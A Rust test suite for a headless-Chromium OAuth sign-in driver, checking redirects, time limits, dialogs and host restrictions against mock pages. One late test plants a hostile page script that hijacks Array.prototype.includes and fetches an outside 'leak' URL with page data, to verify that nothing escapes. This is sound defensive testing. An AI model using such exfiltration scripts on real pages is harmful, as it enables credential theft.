//! The `browser` driver in headless Chromium against wiremock pages. Ignored unless asked for
//! (`cargo test --lib browser -- --ignored`): they need Chromium, which `.ci/run` installs.

use std::time::{Duration, Instant};

use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

use super::*;
use crate::http::redact::{Redactor, Secret};
use crate::http::{HostPolicy, Hosts};

const CALLBACK: &str = "http://127.0.0.1:9/callback";

/// A client of a run on loopback: it contacts 127.0.0.1 only.
fn client() -> HttpClient {
    let hosts = HostPolicy::only(Hosts::new(["127.0.0.1".to_owned()]));
    HttpClient::new(Duration::from_secs(5), Redactor::default())
        .unwrap()
        .restricted_to(hosts)
}

fn settings(fields: &[(&str, &str)], submit: &[&str], timeout: Duration) -> BrowserSettings {
    let form = FormSettings {
        fields: fields.iter().map(|(k, v)| (k.to_string(), Secret::new(*v))).collect(),
        submit: submit.iter().map(|s| s.to_string()).collect(),
        refused_origins: Vec::new(),
    };
    let chromium = find_chromium(None).expect("Chromium (apt-get install chromium)");
    BrowserSettings::new(form, timeout, chromium)
}

async fn page(server: &MockServer, at: &str, html: &str) {
    Mock::given(method("GET"))
        .and(path(at))
        .respond_with(ResponseTemplate::new(200).set_body_raw(html.to_owned(), "text/html"))
        .mount(server)
        .await;
}

async fn drive(settings: &BrowserSettings, server: &MockServer) -> Observation {
    let start = format!("{}/authorize", server.uri());
    drive_browser(settings, &client(), "authz", &start, CALLBACK).await
}

fn error(obs: &Observation) -> &str {
    match &obs.observed {
        Observed::Error(why) => why,
        other => panic!("expected an error, got {other:?}"),
    }
}

/// An identifier-first sign-in built by script: the user name, "Next", then the password and
/// "Sign in", which sends the browser on by script (no form, no redirect).
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_two_step_login_built_by_script_reaches_the_callback() {
    let s = MockServer::start().await;
    let html = format!(
        r#"<title>Sign in</title><div id="app"></div><script>
        const app = document.getElementById("app");
        function step2(user) {{
          app.innerHTML = '<label for="pw">Password</label><input id="pw" type="password"><button id="go">Sign in</button>';
          document.getElementById("go").onclick = () => {{
            const pw = document.getElementById("pw").value;
            if (user === "alice" && pw === "s3cret") location = "{CALLBACK}?code=c0de&state=st";
          }};
        }}
        setTimeout(() => {{
          app.innerHTML = '<input placeholder="Email" id="user"><button id="next">Next</button>';
          document.getElementById("next").onclick = () => step2(document.getElementById("user").value);
        }}, 100);
        </script>"#
    );
    page(&s, "/authorize", &html).await;
    let settings = settings(
        &[("Email", "alice"), ("Password", "s3cret")],
        &["Next", "Sign in"],
        Duration::from_secs(10),
    );
    let obs = drive(&settings, &s).await;
    assert!(
        matches!(obs.observed, Observed::Response(ref r) if r.status == 302),
        "{:?}",
        obs.observed
    );
    assert_eq!(obs.vars["callback.code"], "c0de");
    assert_eq!(obs.vars["callback.state"], "st");
}

/// A page that never sends the browser on and never stays still (it polls): the time limit
/// ends it, naming the page; with `--save-failure-screenshots`, a PNG of it is saved.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_page_that_never_redirects_ends_at_the_time_limit_with_its_title() {
    let s = MockServer::start().await;
    let html = "<title>Waiting for approval</title><p>Approve on your phone.</p>\
                <script>setInterval(() => fetch('/poll'), 100)</script>";
    page(&s, "/authorize", html).await;
    page(&s, "/poll", "pending").await;
    let shots = tempfile::tempdir().unwrap();
    let mut settings = settings(&[], &[], Duration::from_secs(2));
    settings.screenshots = Some(shots.path().to_owned());
    let started = Instant::now();
    let obs = drive(&settings, &s).await;
    let why = error(&obs);
    assert!(
        why.starts_with("interaction required") && why.contains("\"Waiting for approval\""),
        "{why}"
    );
    assert!(why.contains("within 2 s"), "{why}");
    assert!(started.elapsed() < Duration::from_secs(6), "the time limit holds");
    let saved: Vec<_> = std::fs::read_dir(shots.path())
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(saved.len(), 1, "{saved:?}");
    assert!(std::fs::read(&saved[0]).unwrap().starts_with(b"\x89PNG"));
    assert!(
        why.contains(&saved[0].display().to_string()),
        "the error names the screenshot"
    );
}

#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_redirect_off_the_run_s_hosts_is_refused() {
    let s = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/authorize"))
        .respond_with(ResponseTemplate::new(302).append_header("Location", "https://login.example.com/sso"))
        .mount(&s)
        .await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    assert!(
        error(&obs).contains("login.example.com, outside the hosts of this run"),
        "{obs:?}"
    );
}

/// A page it cannot pass (no button it was told to press), described with the lines for the
/// `browser` driver; and an error page, which is the case's to judge, comes back as it is, soon.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_page_for_a_person_is_described_and_an_error_page_is_judged() {
    let s = MockServer::start().await;
    let login = "<title>Authorize</title><div id=app></div><script>document.getElementById('app').innerHTML = \
                 '<form method=post action=/consent><input name=user><button>Allow</button></form>'</script>";
    page(&s, "/authorize", login).await;
    let obs = drive(&settings(&[], &["Approve"], Duration::from_secs(10)), &s).await;
    let why = error(&obs);
    assert!(
        why.contains("a POST form with fields [user] and buttons [\"Allow\"]"),
        "{why}"
    );
    assert!(why.contains("driver = \"browser\", submit = \"Allow\""), "{why}");

    let other = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/authorize"))
        .respond_with(
            ResponseTemplate::new(400).set_body_raw("<title>Error</title><p>invalid redirect_uri</p>", "text/html"),
        )
        .mount(&other)
        .await;
    let started = Instant::now();
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &other).await;
    assert!(
        matches!(&obs.observed, Observed::Response(r) if r.status == 400),
        "{:?}",
        obs.observed
    );
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "a plain page is judged at once"
    );
}

/// The configured fields are never typed into a page of a refused origin (a proxy's upstream).
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn the_configured_fields_never_go_to_a_refused_origin() {
    let s = MockServer::start().await;
    page(
        &s,
        "/authorize",
        "<title>Upstream</title><form action=/login><input name=username><button>Continue</button></form>",
    )
    .await;
    page(&s, "/login", "<title>Signed in</title><p>done</p>").await;
    let mut settings = settings(&[("username", "alice")], &[], Duration::from_secs(10));
    settings.form.refused_origins = vec![s.uri()];
    drive(&settings, &s).await;
    let requests = s.received_requests().await.unwrap();
    let login = requests
        .iter()
        .find(|r| r.url.path() == "/login")
        .expect("the form was submitted");
    assert_eq!(login.url.query(), Some("username="), "submitted as it is, never filled");
}

/// A dialog stops the page's script until someone answers it: the driver accepts it and goes on.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_dialog_is_answered_and_the_page_goes_on() {
    let s = MockServer::start().await;
    let html = format!(
        r#"<title>Confirm</title><button id="ok">Allow</button><script>
        document.getElementById("ok").onclick = () => {{
          if (confirm("Allow the MCP client?")) location = "{CALLBACK}?code=c0de";
        }};
        alert("Welcome");
        </script>"#
    );
    page(&s, "/authorize", &html).await;
    let obs = drive(&settings(&[], &["Allow"], Duration::from_secs(10)), &s).await;
    assert_eq!(
        obs.vars.get("callback.code").map(String::as_str),
        Some("c0de"),
        "{:?}",
        obs.observed
    );
}

/// A listener on a host outside the run (127.0.0.2): whether anything reached it.
struct Outside(std::net::TcpListener);

impl Outside {
    fn new() -> Outside {
        let listener = std::net::TcpListener::bind("127.0.0.2:0").expect("127.0.0.2 is loopback");
        listener.set_nonblocking(true).unwrap();
        Outside(listener)
    }

    fn url(&self) -> String {
        format!("http://127.0.0.2:{}/leak", self.0.local_addr().unwrap().port())
    }

    fn reached(&self) -> bool {
        self.0.accept().is_ok()
    }
}

fn client_for(hosts: &[&str]) -> HttpClient {
    let hosts = HostPolicy::only(Hosts::new(hosts.iter().map(|h| h.to_string())));
    HttpClient::new(Duration::from_secs(5), Redactor::default())
        .unwrap()
        .restricted_to(hosts)
}

/// Callbacks in the fragment (implicit responses and their errors) keep their parameters; an
/// image on the callback's origin is no callback.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_fragment_callback_keeps_its_parameters_and_an_image_is_no_callback() {
    let s = MockServer::start().await;
    let html = format!(
        r#"<title>Wait</title><img src="http://127.0.0.1:9/logo.png"><p>Redirecting you now, please wait a moment.</p>
        <script>setTimeout(() => location = "{CALLBACK}#error=access_denied&state=st", 300)</script>"#
    );
    page(&s, "/authorize", &html).await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    assert_eq!(
        obs.vars.get("callback.error").map(String::as_str),
        Some("access_denied"),
        "{obs:?}"
    );
    assert_eq!(obs.vars["callback.state"], "st");
}

/// Pages on their way are not judged: a timed refresh, and a sign-in waiting on a slow request.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_page_still_on_its_way_is_waited_for() {
    let s = MockServer::start().await;
    let refresh =
        format!(r#"<title>Redirecting</title><meta http-equiv="refresh" content="2;url={CALLBACK}?code=meta">"#);
    page(&s, "/authorize", &refresh).await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    assert_eq!(
        obs.vars.get("callback.code").map(String::as_str),
        Some("meta"),
        "{obs:?}"
    );

    let s = MockServer::start().await;
    let slow = format!(
        r#"<title>Sign in</title><button id="go">Sign in</button><script>
        document.getElementById("go").onclick = () =>
          fetch("/session").then(() => location = "{CALLBACK}?code=slow");
        </script>"#
    );
    page(&s, "/authorize", &slow).await;
    Mock::given(method("GET"))
        .and(path("/session"))
        .respond_with(ResponseTemplate::new(200).set_delay(Duration::from_millis(2500)))
        .mount(&s)
        .await;
    let obs = drive(&settings(&[], &["Sign in"], Duration::from_secs(10)), &s).await;
    assert_eq!(
        obs.vars.get("callback.code").map(String::as_str),
        Some("slow"),
        "{obs:?}"
    );
}

/// A sign-in without a form element (inputs in a script-built page) is for a person, never the
/// authorization server's answer; a JSON error is handed over as JSON.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn a_page_asking_for_input_is_interaction_required_and_json_stays_json() {
    let s = MockServer::start().await;
    let html = "<title>Welcome</title><div id=app></div><script>document.getElementById('app').innerHTML = \
                '<p>Please enter the one-time code we sent to your phone to continue signing in.</p>\
                <input id=otp><button>Verify</button>'</script>";
    page(&s, "/authorize", html).await;
    let obs = drive(&settings(&[], &["Continue"], Duration::from_secs(10)), &s).await;
    assert!(error(&obs).starts_with("interaction required"), "{obs:?}");

    let s = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/authorize"))
        .respond_with(ResponseTemplate::new(400).set_body_raw(r#"{"error":"invalid_request"}"#, "application/json"))
        .mount(&s)
        .await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    let Observed::Response(r) = &obs.observed else {
        panic!("{obs:?}")
    };
    assert_eq!(
        (r.status, r.body.as_slice()),
        (400, br#"{"error":"invalid_request"}"#.as_slice())
    );
}

/// With no button configured, a refusing one is never pressed (the reference's form lists
/// Deny first); and a page that changes with every press is pressed a few times at most.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn presses_never_refuse_by_default_and_are_capped() {
    let s = MockServer::start().await;
    let html = format!(
        r#"<title>Consent</title><form action="{CALLBACK}"><button name=d value=deny>Deny</button><button name=d value=approve>Approve</button></form>"#
    );
    page(&s, "/authorize", &html).await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    assert_eq!(
        obs.vars.get("callback.d").map(String::as_str),
        Some("approve"),
        "{obs:?}"
    );

    let s = MockServer::start().await;
    let html = r#"<title>Sign in</title><button id=b>Sign in</button><script>let n = 0;
        document.getElementById("b").onclick = () => { n++; history.replaceState(null, "", "?try=" + n); fetch("/press"); };
        </script>"#;
    page(&s, "/authorize", html).await;
    page(&s, "/press", "no").await;
    drive(&settings(&[], &["Sign in"], Duration::from_secs(4)), &s).await;
    let presses = s
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.url.path() == "/press")
        .count();
    assert!((1..=MAX_PRESSES).contains(&presses), "{presses} presses");
}

/// Nothing leaves the run's hosts, not even a cross-site frame's requests; and a
/// refused origin's page cannot read the configured values by rewriting the functions the
/// driver's script calls (it runs in a world of its own).
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn nothing_reaches_a_host_outside_the_run_and_a_refused_page_reads_no_secret() {
    let outside = Outside::new();
    let s = MockServer::start().await;
    let port = url::Url::parse(&s.uri()).unwrap().port().unwrap();
    let html = format!(
        r#"<title>Sign in</title><p>Checking your browser before you sign in, one moment please.</p>
        <iframe src="http://localhost:{port}/frame"></iframe><script>
        Array.prototype.includes = function () {{ fetch("{leak}?" + JSON.stringify(this)); return false; }};
        </script><form action=/done><input name=username><button>Continue</button></form>"#,
        leak = outside.url(),
    );
    page(&s, "/authorize", &html).await;
    page(
        &s,
        "/frame",
        &format!(r#"<img src="{0}"><script>fetch("{0}")</script>"#, outside.url()),
    )
    .await;
    page(&s, "/done", "<title>Done</title><p>done</p>").await;
    let mut settings = settings(&[("username", "alice")], &[], Duration::from_secs(10));
    settings.form.refused_origins = vec![s.uri()];
    let start = format!("{}/authorize", s.uri());
    drive_browser(
        &settings,
        &client_for(&["127.0.0.1", "localhost"]),
        "authz",
        &start,
        CALLBACK,
    )
    .await;
    assert!(!outside.reached(), "a request left the run's hosts");
    let done = s.received_requests().await.unwrap();
    let done = done
        .iter()
        .find(|r| r.url.path() == "/done")
        .expect("the form was submitted");
    assert_eq!(done.url.query(), Some("username="), "never filled on a refused origin");
}

/// An error page is the authorization server's answer though it has a site's header (a search
/// form, a language menu) and polls for news; an error status with an empty body is its status.
#[tokio::test]
#[ignore = "needs Chromium (apt-get install chromium)"]
async fn an_error_page_with_a_site_header_or_no_body_is_judged() {
    let s = MockServer::start().await;
    let html = r#"<title>Error</title><form role=search action=/search><input type=search name=q><button>Search</button></form>
        <select><option>English</option><option>Deutsch</option></select>
        <p>The redirect_uri is not registered for this client.</p>
        <script>setInterval(() => fetch("/news"), 1000)</script>"#;
    Mock::given(method("GET"))
        .and(path("/authorize"))
        .respond_with(ResponseTemplate::new(400).set_body_raw(html, "text/html"))
        .mount(&s)
        .await;
    page(&s, "/news", "{}").await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(15)), &s).await;
    assert!(
        matches!(&obs.observed, Observed::Response(r) if r.status == 400),
        "{:?}",
        obs.observed
    );
    assert!(
        !s.received_requests()
            .await
            .unwrap()
            .iter()
            .any(|r| r.url.path() == "/search"),
        "no search"
    );

    let s = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/authorize"))
        .respond_with(ResponseTemplate::new(400))
        .mount(&s)
        .await;
    let obs = drive(&settings(&[], &[], Duration::from_secs(10)), &s).await;
    assert!(
        matches!(&obs.observed, Observed::Response(r) if r.status == 400 && r.body.is_empty()),
        "{:?}",
        obs.observed
    );
}
